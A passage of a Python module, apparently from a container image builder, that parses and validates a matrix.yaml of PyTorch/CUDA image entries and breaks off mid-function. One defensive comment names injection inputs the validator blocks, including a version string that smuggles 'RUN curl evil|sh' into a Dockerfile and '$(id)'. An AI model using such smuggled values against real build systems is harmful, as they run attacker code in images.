"""matrix.yaml -> frozen `Entry` objects.

Axes are crossed, `exclude:` and `include:` applied the way GitHub Actions does, top-level keys are
cascaded into entries (an entry key overrides the top-level key of the same name), every value is
validated against a strict pattern for its kind, and each entry is resolved against the
compatibility table. Nothing here touches the engine or the network.
"""

from __future__ import annotations

import collections
import dataclasses
import datetime
import fnmatch
import functools
import itertools
import math
import os
import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ..declarations import grammar, schema
from ..declarations.vulnerabilities import Allowance, Policy, too_far
from ..errors import InputError, Where, did_you_mean, unknown_key
from ..ports.reference import Reference, parse
from ..secrets import index_auth
from ..secrets.redact import looks_secret
from . import certs, lookups, source
from .compat import CompatTable, Variant, os_python, torch_index_url
from .gpus import gpus_matching

# Every value is checked against a strict grammar for its kind (`grammar`) before it can reach a
# Dockerfile, so `2.6.0\nRUN curl evil|sh`, `$(id)` or a URL ending in `;#` are never rendered.
PATTERNS = grammar.PATTERNS
AXES = schema.names(schema.AXIS, under="matrix")
TORCH_EXTRAS = tuple(schema.value("torch_extras"))  # the companions torch may come with; the default is all
ENTRY_ONLY_KEYS = schema.names(schema.INCLUDE)
CASCADED_KEYS = schema.names(schema.ENTRY)
OVERRIDABLE = {"nccl": "nvidia-nccl-cu", "cudnn": "nvidia-cudnn-cu"}  # entry key -> wheel name prefix
TOP_KEYS = (*schema.names(schema.TOP), *CASCADED_KEYS)
BUILD_KEYS = schema.names(under="build")
USER_KEYS = schema.names(under="user")
SMOKE_KEYS = schema.names(under="smoke")
# Immutable tags name one image forever (the content key makes them unique); aliases float to the newest
# image once every entry they cover passed. Entry ids are {torch}-{accelerator}-py{python}-{flavor}[-{base}].
# Their defaults, like every matrix default and bound, are the schema's (`schema.value`, `schema.bounds`).
CA_ENV = ("PIP_CERT", "REQUESTS_CA_BUNDLE", "SSL_CERT_FILE")
MAX_ENTRIES = schema.MAX_ENTRIES  # (unless --max-entries raises it) checked before the product is built


@dataclass(frozen=True)
class LayerSpec:
    """One node of an entry's layer tree: `name` is unique in the tree, `layer` is the folder."""

    name: str
    layer: str
    parent: str | None
    when: tuple[tuple[str, tuple[str, ...]], ...] = ()  # entry field -> globs: the node exists only where one matches

    def applies(self, fields: Mapping[str, str | None]) -> bool:
        return all(any(fnmatch.fnmatchcase(fields.get(name) or "", glob) for glob in globs)
                   for name, globs in self.when)


WHEN_FIELDS = ("torch", "accelerator", "python", "flavor", "cuda")


def for_entry(specs: tuple[LayerSpec, ...], fields: Mapping[str, str | None]) -> tuple[LayerSpec, ...]:
    """An entry's own tree: the nodes whose `when:` it matches; a node left out hands its children to its
    parent (`{layer: devel, when: {flavor: devel}}` sits between torch and business only in devel entries)."""
    kept: list[LayerSpec] = []
    up: dict[str, str | None] = {}  # a left-out node -> the nearest kept ancestor
    for spec in specs:  # parents come first (_tree_order)
        parent = spec.parent
        while parent is not None and parent in up:
            parent = up[parent]
        if spec.applies(fields):
            kept.append(spec if parent == spec.parent else dataclasses.replace(spec, parent=parent))
        else:
            up[spec.name] = parent
    return tuple(kept)


@dataclass(frozen=True)
class BuildSettings:
    ca_bundle: Path | None
    wheelhouse: Path | None
    torch_index_url: str
    index_url: str
    network: str
    cuda_toolkit: str = schema.value("build.cuda_toolkit")  # devel: nvcc from NVIDIA wheels (pip) or the base (image)


@dataclass(frozen=True)
class UserSpec:
    """The non-root user every image runs as (matrix `user:`): created in the root layer, with a writable
    home and workdir, and set as each layer's final `USER uid:gid`."""

    name: str = schema.value("user.name")
    uid: int = schema.value("user.uid")
    gid: int = schema.value("user.gid")
    workdir: str = schema.value("user.workdir")

    @property
    def home(self) -> str:
        return f"/home/{self.name}"

    def settings(self) -> dict[str, Any]:
        return {"name": self.name, "uid": self.uid, "gid": self.gid, "home": self.home, "workdir": self.workdir}


@dataclass(frozen=True)
class RunnerSettings:
    """`runners:` where an engine runs an entry's jobs (`emit.graph`): builds on a CPU queue, a CUDA leaf's verify
    on `gpus` GPUs of model `gpu` (`any`: no model asked) from the GPU queue."""

    build: str = schema.value("runners.build")
    gpu_queue: str = schema.value("runners.gpu_queue")
    gpu: str = schema.value("runners.gpu")
    gpus: int = schema.value("runners.gpus")


@dataclass(frozen=True)
class SmokeSettings:
    timeout: int
    shm_size: str
    gpus: str  # auto | all (NVIDIA toolkit) | cdi | devices (raw /dev/nvidia* + driver_dir) | none
    driver_dir: str = schema.value("smoke.driver_dir")
    throughput_floor: float = schema.value("smoke.throughput_floor")  # fraction of the GPU model's dense bf16 peak
    cpu_gflops_floor: float = schema.value("smoke.cpu_gflops_floor")  # fp32, one thread, best of 10 (cpu_floor.py)
    env: tuple[tuple[str, str], ...] = ()  # extra environment for the smoke container
    allow_skip: tuple[str, ...] = ()  # checks (names or globs) whose skip does not block publishing on a GPU run
    gpu_floors: tuple[tuple[str, float], ...] = ()  # GPU name (substring) -> bf16 TFLOP/s floor, for unlisted GPUs
    history_window: int = schema.value("smoke.history_window")  # the passes whose median is the baseline


# The resolved versions of an entry (Entry.versions): labels, expectations, and what a template may depend on.
SHOWN_VERSIONS = ("torch", "cuda", "cudnn", "nccl", "python", "triton")  # what a report or the plan says of an entry


def versions_line(versions: Mapping[str, Any]) -> str:
    """An entry's versions in one line (`torch 2.11.0 · cuda 13.0 · ...`), the ones it has, from `Entry.versions()`
    or a report's copy of it."""
    return " · ".join(f"{name} {versions[name]}" for name in SHOWN_VERSIONS if versions.get(name))


VERSION_FIELDS = ("torch", "accelerator", "python", "flavor", "cuda", "cudnn", "nccl", "triton", "torchvision",
                  "torchaudio")


@dataclass(frozen=True)
class VulnerabilitySettings:
    """`vulnerabilities:`: where the advisories are (OSV) and the gate's policy (`declarations.vulnerabilities`)."""

    data: tuple[Path, ...] = ()
    policy: Policy = field(default_factory=Policy)


ALLOWANCE_KEYS = ("id", "reason", "expires", "packages")


@dataclass(frozen=True)
class Entry:
    """One resolved point of the matrix. Nothing mutates it after `load()`."""

    id: str
    torch: str
    accelerator: str
    python: str
    flavor: str
    cuda: str | None
    cudnn: str | None
    nccl: str | None
    triton: str | None
    torchvision: str | None
    torchaudio: str | None
    pins: tuple[tuple[str, str], ...]
    base_image: str
    registry: str
    repository: str
    layers: tuple[LayerSpec, ...]
    layers_path: tuple[Path, ...]
    build: BuildSettings
    smoke: SmokeSettings
    tags: tuple[str, ...]
    vars: tuple[tuple[str, str], ...]
    where: Where
    overrides: tuple[tuple[str, str], ...] = ()  # (wheel, version) installed over torch's own pin
    driver_floor: str | None = None  # the minimum NVIDIA driver for this CUDA
    aliases: tuple[str, ...] = tuple(schema.value("aliases"))  # floating tag templates
    user: UserSpec = UserSpec()
    toolkit: tuple[str, ...] = ()  # devel flavor of a CUDA entry: nvcc and CUDA headers as pip requirements
    cuda_libs: tuple[str, ...] = ()  # torch's CUDA library wheels (compat.Variant.cuda_libs): the shared CUDA node
    origins: tuple[tuple[str, str], ...] = ()  # key -> where its value was written (`file:line`) or `default`
    vulnerabilities: VulnerabilitySettings = field(default_factory=VulnerabilitySettings)
    runners: RunnerSettings = RunnerSettings()

    @functools.cached_property
    def target(self) -> Reference:
        """Where this entry's images go: its registry and repository as one reference, parsed once (every tag and
        key tag of the entry is made from it)."""
        return parse(f"{self.registry.rstrip('/')}/{self.repository}")

    def versions(self) -> dict[str, str | None]:
        """The resolved versions: what the plan promises and the smoke suite checks."""
        return {name: getattr(self, name) for name in VERSION_FIELDS}

    def leaves(self) -> tuple[LayerSpec, ...]:
        parents = {spec.parent for spec in self.layers}
        return tuple(spec for spec in self.layers if spec.name not in parents)


@dataclass(frozen=True)
class Matrix:
    file: Path
    entries: tuple[Entry, ...]
    excluded: tuple[tuple[str, str], ...] = ()  # (combination, why)
    warnings: tuple[str, ...] = field(default=())
    questions: lookups.Questions = field(default_factory=lookups.Questions)  # what a first load needs answered
    registry: str | None = None  # the file's own `registry:` (or --registry): whose host gets the env's credentials
    attestations: str = schema.value("attestations")  # `attestations:` (`evidence.sigstore` layouts)


@dataclass
class Combo:
    """One entry before it is resolved: its raw values, and where each was written (a `matrix:` axis value,
    an include's key); keys it lacks come from the top level or the schema's default."""

    values: dict[str, Any]
    origin: tuple[str | int, ...]  # ("matrix",) or ("include", i)
    paths: dict[str, tuple[str | int, ...]]
    original: dict[str, Any] = field(default_factory=dict)  # the axis values, before any include


@dataclass(frozen=True)
class Merged:
    """A mapping key merged over the levels (`build`, `smoke`, `user`): each leaf's value and where it was written."""

    name: str
    values: dict[str, Any]
    paths: dict[str, tuple[str | int, ...]]

    def path(self, leaf: str) -> tuple[str | int, ...]:
        return self.paths.get(leaf, (self.name, leaf))


def load(
    path: Path,
    compat: CompatTable,
    *,
    env: Mapping[str, str] | None = None,
    registry: str | None = None,
    strict: bool = False,
    max_entries: int = MAX_ENTRIES,
    facts: lookups.Facts | None = None,
) -> Matrix:
    """Read, expand, validate and resolve a matrix file; nothing here touches the engine or the network.
    Without `facts`, what the file needs from outside (a base image's Python, an index's versions) is
    collected on `Matrix.questions` and the entries that need it are left out: answer them
    (`lookups.answer`) and load again with the facts. A matrix whose axes would make more than
    `max_entries` entries is refused before any is made."""
    doc = source.load(path)
    loader = _Loader(doc, path.resolve().parent, compat, dict(env if env is not None else os.environ),
                     registry, strict, max_entries, facts)
    return loader.run()


class _Loader:
    def __init__(self, doc: source.Document, root: Path, compat: CompatTable, env: dict[str, str],
                 registry: str | None, strict: bool, max_entries: int = MAX_ENTRIES,
                 facts: lookups.Facts | None = None) -> None:
        self.doc = doc
        self.max_entries = max_entries
        self.root = root
        self.compat = compat
        self.env = env
        self.registry_override = registry
        self.facts = facts or lookups.Facts()
        self.asking = facts is None  # a first load: questions are collected, not answered
        self.base_images: set[str] = set()  # questions: base images whose Python is needed
        self.index: set[tuple[str, str]] = set()  # questions: (index url, project)
        self.strict = strict
        self.warnings: list[str] = []
        self.bundles: set[Path] = set()  # CA bundles already checked

    # -- helpers ---------------------------------------------------------------------------
    def where(self, *path: str | int) -> Where:
        return self.doc.where(tuple(path))

    def fail(self, message: str, path: tuple[str | int, ...], hint: str | None = None) -> InputError:
        return InputError(message, where=self.doc.where(path), hint=hint)

    def scalar(self, value: Any, kind: str, path: tuple[str | int, ...]) -> str:
        if isinstance(value, bool) or value is None or isinstance(value, (dict, list)):
            raise self.fail(f"expected a {kind} value, got {_describe(value)}", path)
        text = str(value)
        if kind == "url":
            return self.url(text, path)
        if not grammar.matches(kind, text):
            raise self.fail(f"invalid {kind} {text!r}", path, hint=grammar.hint(kind))
        return text

    def url(self, text: str, path: tuple[str | int, ...], placeholders: tuple[str, ...] = ()) -> str:
        """An index URL: never with credentials (refused without repeating them), of plain characters only."""
        problem = grammar.url_problem(text, placeholders=placeholders)
        if problem is None:
            return text
        if grammar.has_credentials(text):
            raise self.fail(problem, path, hint="give index credentials in IMAGEBUILDER_INDEX_USER and "
                            "IMAGEBUILDER_INDEX_PASSWORD (for the hosts in IMAGEBUILDER_INDEX_HOSTS) or in ~/.netrc: "
                            "pip reaches the index through imagebuilder's loopback proxy, and nothing of them enters "
                            "an image")
        raise self.fail(problem, path, hint=grammar.hint("url"))

    def setting(self, merged: Merged, name: str) -> str:
        """A value of a merged mapping (`build`, `smoke`, `user`), or the schema's default; checked against
        the schema's kind for the key, an error naming where it was written."""
        key = schema.key(name)
        return self.scalar(merged.values.get(key.leaf, key.default), key.kind, merged.path(key.leaf))

    def bounded(self, merged: Merged, name: str, what: str, *, hint: str = "") -> float:
        """A number of a merged mapping within the schema's bounds for its key (`setting`), else an error naming
        where it was written, the bounds and the default."""
        number = float(self.setting(merged, name))
        low, high = schema.bounds(name)
        leaf = schema.key(name).leaf
        hint = f"{schema.value(name):g} is the default" + (f"; {hint}" if hint else "")
        if low is not None and high is not None and not low <= number <= high:
            raise self.fail(f"{leaf} {number:g} is outside [{low:g}, {high:g}] ({what})", merged.path(leaf), hint=hint)
        if low is not None and number < low:
            raise self.fail(f"{leaf} {number:g} is below {low:g} {what}", merged.path(leaf), hint=hint)
        if high is not None and number > high:
            raise self.fail(f"{leaf} {number:g} is above {high:g} {what}", merged.path(leaf), hint=hint)
        return number

    def mapping(self, value: Any, path: tuple[str | int, ...], allowed: tuple[str, ...]) -> dict[str, Any]:
        if not isinstance(value, dict):
            raise self.fail(f"expected a mapping, got {_describe(value)}", path)
        for key in value:
            if key not in allowed:
                raise unknown_key(key, allowed, self.doc.where((*path, key)))
        return value

    def listof(self, value: Any, path: tuple[str | int, ...], *, nonempty: bool = False) -> list[Any]:
        if not isinstance(value, list):
            raise self.fail(f"expected a list, got {_describe(value)}", path)
        if nonempty and not value:
            raise self.fail("must not be empty", path)
        return value

    def path_value(self, value: Any, path: tuple[str | int, ...], *, want_dir: bool) -> Path:
        if not isinstance(value, str) or not value or "\n" in value:
            raise self.fail(f"expected a path, got {_describe(value)}", path)
        p = Path(os.path.expanduser(value))
        p = p if p.is_absolute() else (self.root / p)
        if want_dir and not p.is_dir():
            raise self.fail(f"folder {value!r} does not exist (resolved to {p})", path)
        if not want_dir:
            if not p.is_file():
                raise self.fail(f"file {value!r} does not exist (resolved to {p})", path)
            if not os.access(p, os.R_OK):
                raise self.fail(f"file {value!r} is not readable", path)
        return p

    # -- the steps ---------------------------------------------------------------------------
    def run(self) -> Matrix:
        top = self.doc.value
        if not isinstance(top, dict):
            raise InputError(f"the matrix file must be a mapping of keys, got {_describe(top)}",
                             where=Where(self.doc.file, 1, 1))
        self.mapping(top, (), TOP_KEYS)
        version = top.get("version", "1")
        if str(version) != "1":
            raise self.fail(f"unsupported matrix version {version!r}; this imagebuilder reads version 1",
                            ("version",))
        for required in ("matrix", "base_image", "repository", "layers"):
            if required not in top:
                raise InputError(f"missing required key {required!r}", where=Where(self.doc.file, 1, 1))
        if "registry" not in top and self.registry_override is None:
            raise InputError("missing required key 'registry' (or pass --registry)",
                             where=Where(self.doc.file, 1, 1))
        # Shape first, so a misspelt key is reported before any entry is resolved.
        self.mapping(top.get("build") or {}, ("build",), BUILD_KEYS)
        self.mapping(top.get("smoke") or {}, ("smoke",), SMOKE_KEYS)
        self.mapping(top.get("user") or {}, ("user",), USER_KEYS)
        if "vars" in top:
            self.mapping(top["vars"] or {}, ("vars",), tuple(top["vars"] or {}))
        combos, excluded = self.expand(top)
        entries = [e for combo in combos if (e := self.entry(top, combo)) is not None]
        self.check_unique(entries)
        urls = [(e, (e.build.index_url, e.build.torch_index_url)) for e in entries]
        problem = index_auth.scope_problem({url for _, pair in urls for url in pair}, self.env)
        if problem is not None:  # the environment's index credentials must say which hosts they are for
            first = next(e for e, pair in urls if index_auth.scope_problem(pair, self.env) is not None)
            raise InputError(problem, where=first.where, hint="credentials go only to the index hosts they are "
                             "for: name them, or give each host its own in ~/.netrc")
        clear = index_auth.plain_http_problem({url for _, pair in urls for url in pair}, self.env)
        if clear is not None:  # index credentials never cross a network in clear text unless the environment says so
            first = next(e for e, pair in urls if index_auth.plain_http_problem(pair, self.env) is not None)
            raise InputError(clear, where=first.where)
        own = self.registry_override or (top["registry"] if isinstance(top.get("registry"), str) else None)
        return Matrix(Path(self.doc.file), tuple(entries), tuple(excluded), tuple(self.warnings),
                      lookups.Questions(frozenset(self.base_images), frozenset(self.index)), own,
                      self.scalar(top.get("attestations", schema.default("attestations")), "layouts",
                                  ("attestations",)))

    def expand(self, top: dict[str, Any]) -> tuple[list[Combo], list[tuple[str, str]]]:
        axes = self.mapping(top["matrix"], ("matrix",), AXES)
        if not axes:
            raise self.fail("no axes: give at least `torch` and `accelerator`", ("matrix",))
        values: dict[str, list[str]] = {}
        for axis, raw in axes.items():
            items = self.listof(raw, ("matrix", axis))
            if not items:
                raise self.fail("axis is empty: it would produce no entries", ("matrix", axis))
            if len(items) > self.max_entries:
                raise self.too_many(f"the axis has {len(items)} values", ("matrix", axis))
            kind = "image" if axis == "base_image" else axis
            values[axis] = [self.scalar(v, kind, ("matrix", axis, i)) for i, v in enumerate(items)]
            dupes = sorted(v for v, n in collections.Counter(values[axis]).items() if n > 1)
            if dupes:
                raise self.fail(f"value {dupes[0]!r} appears twice", ("matrix", axis))
        names = list(values)
        includes = self.listof(top.get("include", []), ("include",))
        count = math.prod(len(v) for v in values.values())
        if count > self.max_entries:
            sizes = " × ".join(f"{len(v)} {axis}" for axis, v in values.items())
            raise self.too_many(f"the matrix would make {count} entries ({sizes})", ("matrix",))
        for key in ("include", "exclude"):  # each rule is checked against every entry
            if len(top.get(key) or []) > self.max_entries:
                raise self.too_many(f"{len(top[key])} {key} rules", (key,))
        combos = [Combo({name: values[name][i] for name, i in zip(names, prod, strict=True)}, ("matrix",),
                        {name: ("matrix", name, i) for name, i in zip(names, prod, strict=True)})
                  for prod in itertools.product(*(range(len(v)) for v in values.values()))]
        excluded: list[tuple[str, str]] = []
        for i, rule in enumerate(self.listof(top.get("exclude", []), ("exclude",))):
            path = ("exclude", i)
            rule = self.mapping(rule, path, tuple(names))
            if not rule:
                raise self.fail("an empty exclude would remove every entry", path)
            want = {k: self.scalar(v, "image" if k == "base_image" else k, (*path, k)) for k, v in rule.items()}
            kept = []
            for combo in combos:
                if all(combo.values.get(k) == v for k, v in want.items()):
                    excluded.append((_label(combo.values), f"exclude[{i}] {_label(want)} ({self.doc.where(path)})"))
                else:
                    kept.append(combo)
            if len(kept) == len(combos):
                self.note(f"{self.doc.where(path)}: exclude {_label(want)} matches no entry", path)
            combos = kept
        for combo in combos:
            combo.original = dict(combo.values)
        added: list[Combo] = []
        entry_keys = (*AXES, *ENTRY_ONLY_KEYS, *CASCADED_KEYS)
        for i, rule in enumerate(includes):
            path = ("include", i)
            rule = self.mapping(rule, path, (*tuple(k for k in entry_keys if k != "base_image"), "base_image"))
            if not rule:
                raise self.fail("an empty include adds nothing", path)
            matched = False
            for combo in combos:
                if all(combo.original[k] == str(v) for k, v in rule.items() if k in combo.original):
                    combo.values.update(rule)
                    combo.paths.update({k: (*path, k) for k in rule})
                    matched = True
            if not matched:
                missing = [a for a in ("torch", "accelerator") if a not in rule]
                if missing:
                    raise self.fail(
                        f"include matches no entry, and as a new entry it lacks {', '.join(missing)}", path)
                added.append(Combo(dict(rule), path, {k: (*path, k) for k in rule}))
        result = combos + added
        if not result:
            raise self.fail("the matrix has no entries left after exclude", ("exclude",))
        if len(result) > self.max_entries:
            raise self.too_many(f"the matrix makes {len(result)} entries with its includes", ("include",))
        return result, excluded

    def too_many(self, what: str, path: tuple[str | int, ...]) -> InputError:
        return self.fail(f"{what}; at most {self.max_entries} entries are planned", path,
                         hint="raise the cap (`imagebuilder --max-entries N ...`, or IMAGEBUILDER_MAX_ENTRIES) if "
                              "the matrix is meant to be this large, or split it into several files")

    def note(self, message: str, path: tuple[str | int, ...]) -> None:
        if self.strict:
            raise self.fail(message.split(": ", 1)[-1] + " (an error under --strict)", path)
        self.warnings.append(message)

    def cascaded(self, top: dict[str, Any], combo: Combo, key: str) -> tuple[Any, tuple[str | int, ...]]:
        """An entry key's value and where it was written: the entry's own (an axis value, an include's key),
        else the top level's."""
        if key in combo.values:
            return combo.values[key], combo.paths.get(key, (*combo.origin, key))
        return top.get(key), (key,)

    def merged(self, top: dict[str, Any], combo: Combo, name: str, allowed: tuple[str, ...] | None) -> Merged:
        """A mapping key merged key by key: the entry's keys over the top level's (`allowed`: its keys; None:
        any)."""
        paths: dict[str, tuple[str | int, ...]] = {}
        values: dict[str, Any] = {}
        for level, base in ((top.get(name), (name,)), (combo.values.get(name), combo.paths.get(name))):
            if level is None or base is None:
                continue
            own = allowed if allowed is not None else tuple(level) if isinstance(level, dict) else ()
            for leaf, value in self.mapping(level, base, own).items():
                values[leaf], paths[leaf] = value, (*base, leaf)
        return Merged(name, values, paths)

    def origins(self, top: dict[str, Any], combo: Combo, mappings: Mapping[str, Merged]) -> tuple[tuple[str, str], ...]:
        """Where each key of the entry came from: `file:line`, `$VARIABLE`, `--registry` or `default` (the schema's);
        `mappings`: the entry's merged mapping keys."""
        out = []
        for key in schema.KEYS:
            if key.merge or key.level == schema.TOP or key.name == "matrix.base_image":  # (as `base_image`)
                continue
            parent = key.parent
            if parent is None:
                value, path = self.cascaded(top, combo, key.name)
                found = value is not None
            elif parent == "matrix":
                found, path = key.leaf in combo.values, combo.paths.get(key.leaf, ())
            else:
                found, path = key.leaf in mappings[parent].values, mappings[parent].path(key.leaf)
            name = key.leaf if parent == "matrix" else key.name
            where = self.doc.where(path)
            if key.name == "registry" and self.registry_override:
                out.append((name, "--registry"))
            elif found:
                out.append((name, f"{Path(where.file).name}:{where.line}"))
            elif key.name == "build.ca_bundle" and self.ca_variable() is not None:
                out.append((name, f"${self.ca_variable()}"))
            elif key.level != schema.INCLUDE:
                out.append((name, "default"))
        return tuple(out)

    def entry(self, top: dict[str, Any], combo: Combo) -> Entry | None:
        """The combo resolved; None on a first load when it needs the engine's answer (its base image's Python)."""
        where = self.doc.where(combo.origin)
        torch = self.scalar(combo.values.get("torch"), "torch", combo.paths.get("torch", combo.origin))
        acc = self.scalar(combo.values.get("accelerator"), "accelerator", combo.paths.get("accelerator", combo.origin))
        flavor = self.scalar(combo.values.get("flavor", "runtime"), "flavor", combo.paths.get("flavor", combo.origin))
        base_raw, base_path = self.cascaded(top, combo, "base_image")
        base_image = self.scalar(base_raw, "image", base_path)
        if "python" in combo.values:
            python = self.scalar(combo.values["python"], "python", combo.paths["python"])
        else:
            found = os_python(base_image) or self.facts.base_python.get(base_image)
            if found is None and self.asking and base_image not in self.facts.base_python:
                self.base_images.add(base_image)
                return None  # (resolved when the engine has said)
            if found is None:
                raise InputError(
                    f"no `python` given and the Python of base image {base_image!r} is unknown",
                    where=where, hint="add a `python:` axis, e.g. python: [\"3.11\"]")
            python = found
        label = f"torch {torch}/{acc}/py{python}"
        variant = self.resolve(torch, acc, python, label, where)

        reg_raw, reg_path = self.cascaded(top, combo, "registry")
        registry = self.registry_override or self.scalar(reg_raw, "registry", reg_path)
        if self.registry_override and not re.fullmatch(PATTERNS["registry"], registry):
            raise InputError(f"invalid registry {registry!r} given by --registry",
                             hint=grammar.hint("registry"))
        repo_raw, repo_path = self.cascaded(top, combo, "repository")
        repository = self.scalar(repo_raw, "repository", repo_path)
        layers_raw, layers_path_key = self.cascaded(top, combo, "layers")
        layers = for_entry(self.layer_tree(layers_raw, layers_path_key), {
            "torch": torch, "accelerator": acc, "python": python, "flavor": flavor, "cuda": variant.cuda})
        if not layers:
            raise self.fail(f"{label}: no layer of the tree applies (every one has a `when:` this entry misses)",
                            layers_path_key)
        lp_raw, lp_path = self.cascaded(top, combo, "layers_path")
        layers_path = tuple(
            self.path_value(p, (*lp_path, i), want_dir=True)
            for i, p in enumerate(self.listof(lp_raw or [], lp_path))
        )
        mappings = {name: self.merged(top, combo, name, schema.names(under=name))
                    for name in ("build", "smoke", "user", "vulnerabilities", "runners")}
        build = self.build_settings(mappings["build"], variant)
        smoke = self.smoke_settings(top, mappings["smoke"])
        tags_raw, tags_path = self.cascaded(top, combo, "tags")
        tags = tuple(self.tag_template(t, (*tags_path, i))
                     for i, t in enumerate(self.listof(tags_raw, tags_path, nonempty=True))) \
            if tags_raw is not None else tuple(schema.value("tags"))
        aliases_raw, aliases_path = self.cascaded(top, combo, "aliases")
        aliases = tuple(self.tag_template(t, (*aliases_path, i))
                        for i, t in enumerate(self.listof(aliases_raw, aliases_path))) \
            if aliases_raw is not None else tuple(schema.value("aliases"))
        extras_raw, extras_path = self.cascaded(top, combo, "torch_extras")
        extras = set(schema.value("torch_extras")) if extras_raw is None else {
            self.choice(x, TORCH_EXTRAS, (*extras_path, i)) for i, x in enumerate(self.listof(extras_raw, extras_path))
        }
        release = self.compat.release(torch)
        assert release is not None  # resolve() checked it
        merged_vars = self.merged(top, combo, "vars", None)
        var_pairs = []
        for k, v in sorted(merged_vars.values.items()):
            if not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]{0,63}", k):
                raise self.fail(f"invalid variable name {k!r}", merged_vars.path(k))
            self.not_a_secret(top, k, merged_vars.path(k))
            var_pairs.append((k, self.scalar(v, "var", merged_vars.path(k))))
        overrides, resolved = self.overrides(top, combo, variant, label, where, build.torch_index_url)
        user = self.user(mappings["user"])
        if flavor == "devel" and variant.cuda and int(variant.cuda.split(".")[0]) < 13 \
                and build.cuda_toolkit == "pip":
            raise InputError(
                f"{label} devel: NVIDIA publishes no nvcc for CUDA {variant.cuda} on PyPI "
                "(nvidia-cuda-nvcc-cu12 holds only ptxas); the pip toolkit needs CUDA 13 or newer",
                where=where, hint="use a cu13x entry, or a base_image with nvcc (e.g. nvidia/cuda:"
                f"{variant.cuda}.1-devel-ubuntu24.04) and `build: {{cuda_toolkit: image}}`")
        entry_id = combo.values.get("name")
        if entry_id is not None:
            entry_id = self.scalar(entry_id, "name", combo.paths["name"])
        else:
            entry_id = f"{torch}-{acc}-py{python}-{flavor}"
            if "base_image" in top.get("matrix", {}):
                entry_id += "-" + re.sub(r"[^a-z0-9.]+", "-", base_image.lower()).strip("-")
        return Entry(
            id=entry_id, torch=torch, accelerator=acc, python=python, flavor=flavor,
            cuda=variant.cuda, cudnn=resolved.get("cudnn", variant.cudnn), nccl=resolved.get("nccl", variant.nccl),
            triton=variant.triton,
            torchvision=release.torchvision if "torchvision" in extras else None,
            torchaudio=release.torchaudio if "torchaudio" in extras else None,
            pins=variant.packages, base_image=base_image, registry=registry, repository=repository,
            layers=layers, layers_path=layers_path, build=build, smoke=smoke, tags=tags,
            vars=tuple(var_pairs), where=where, overrides=overrides,
            driver_floor=self.compat.min_driver(variant.cuda) if variant.cuda else None, aliases=aliases,
            user=user, toolkit=cuda_toolkit(variant, build.cuda_toolkit) if flavor == "devel" else (),
            cuda_libs=variant.cuda_libs(overrides) if variant.cuda else (), origins=self.origins(top, combo, mappings),
            vulnerabilities=self.vulnerabilities(mappings["vulnerabilities"]),
            runners=self.runners(mappings["runners"]),
        )

    def runners(self, merged: Merged) -> RunnerSettings:
        """`runners: {build, gpu_queue, gpu, gpus}` (an entry's keys over the top level's)."""
        return RunnerSettings(build=self.setting(merged, "runners.build"),
                              gpu_queue=self.setting(merged, "runners.gpu_queue"),
                              gpu=self.setting(merged, "runners.gpu"),
                              gpus=int(self.setting(merged, "runners.gpus")))

    def vulnerabilities(self, merged: Merged) -> VulnerabilitySettings:
        """`vulnerabilities: {data, block, unknown, require_data, allow}` (an entry's keys over the top level's)."""
        raw_data = merged.values.get("data") or []
        items = [raw_data] if isinstance(raw_data, str) else self.listof(raw_data, merged.path("data"))
        data = []
        for i, item in enumerate(items):
            path = merged.path("data") if isinstance(raw_data, str) else (*merged.path("data"), i)
            found = self.path_value(item, path, want_dir=False) if isinstance(item, str) and \
                not (self.root / os.path.expanduser(item)).is_dir() else self.path_value(item, path, want_dir=True)
            data.append(found)
        require = merged.values.get("require_data", False)
        if not isinstance(require, bool):
            raise self.fail(f"expected true or false, got {_describe(require)}", merged.path("require_data"))
        allow = []
        for i, item in enumerate(self.listof(merged.values.get("allow") or [], merged.path("allow"))):
            path = (*merged.path("allow"), i)
            m = self.mapping(item, path, ALLOWANCE_KEYS)
            for needed in ("id", "reason", "expires"):
                if needed not in m:
                    raise self.fail(f"an exception needs `{needed}:` (id, reason and expires: every exception says "
                                    "why and until when)", path)
            reason = m["reason"]
            if not isinstance(reason, str) or not reason.strip() or "\n" in reason.strip():
                raise self.fail(f"expected a one-line reason, got {_describe(reason)}", (*path, "reason"))
            expires = m["expires"]
            if isinstance(expires, datetime.date):  # YAML reads 2027-01-31 as a date
                expires = expires.isoformat()
            text = self.scalar(expires, "date", (*path, "expires"))
            try:
                day = datetime.date.fromisoformat(text)
            except ValueError:
                raise self.fail(f"{text!r} is not a date", (*path, "expires"), hint=grammar.hint("date")) from None
            packages = m.get("packages") or []
            names = tuple(self.scalar(p, "package", (*path, "packages", j))
                          for j, p in enumerate([packages] if isinstance(packages, str) else
                                                self.listof(packages, (*path, "packages"))))
            where = self.doc.where(path)
            allow.append(Allowance(self.scalar(m["id"], "advisory", (*path, "id")), reason.strip(), day, names,
                                   f"{Path(where.file).name}:{where.line}"))
        if require and not data:
            raise self.fail("`require_data: true` and no `data:`: the vulnerability gate would have nothing to judge "
                            "with", merged.path("require_data"),
                            hint="download OSV's export of each ecosystem the images hold (e.g. "
                                 "https://osv-vulnerabilities.storage.googleapis.com/PyPI/all.zip) in the nightly and "
                                 "name it in vulnerabilities.data")
        days = {}
        for key in ("max_age", "exception_days"):
            days[key] = int(self.bounded(merged, f"vulnerabilities.{key}", "days"))
        today = datetime.datetime.now(datetime.timezone.utc).date()
        for i, allowance in enumerate(allow):
            why = too_far(allowance, days["exception_days"], today)
            if why is not None:
                raise self.fail(why, (*merged.path("allow"), i, "expires"))
        policy = Policy(block=self.setting(merged, "vulnerabilities.block"),
                        unknown=self.setting(merged, "vulnerabilities.unknown"), allow=tuple(allow),
                        require_data=require, max_age=days["max_age"], exception_days=days["exception_days"])
        return VulnerabilitySettings(tuple(data), policy)

    def user(self, merged: Merged) -> UserSpec:
        """`user: {name, uid, gid, workdir}` (entry keys override the top-level ones); never root."""
        name = self.setting(merged, "user.name")
        if name == "root":
            raise self.fail("images run as a non-root user; `root` is not allowed here", merged.path("name"))
        ids = {}
        for key in ("uid", "gid"):
            raw = merged.values.get(key, schema.default(f"user.{key}"))
            if raw == 0 or raw == "0":
                raise self.fail(f"{key} 0 is root; images run as a non-root user", merged.path(key),
                                hint=f"the default is {schema.value('user.' + key)}; use the UID your cluster or "
                                     "volumes expect")
            ids[key] = int(self.scalar(raw, "id", merged.path(key)))
            if ids[key] > 2**31 - 1:
                raise self.fail(f"{key} {ids[key]} is out of range", merged.path(key))
        workdir = self.setting(merged, "user.workdir")
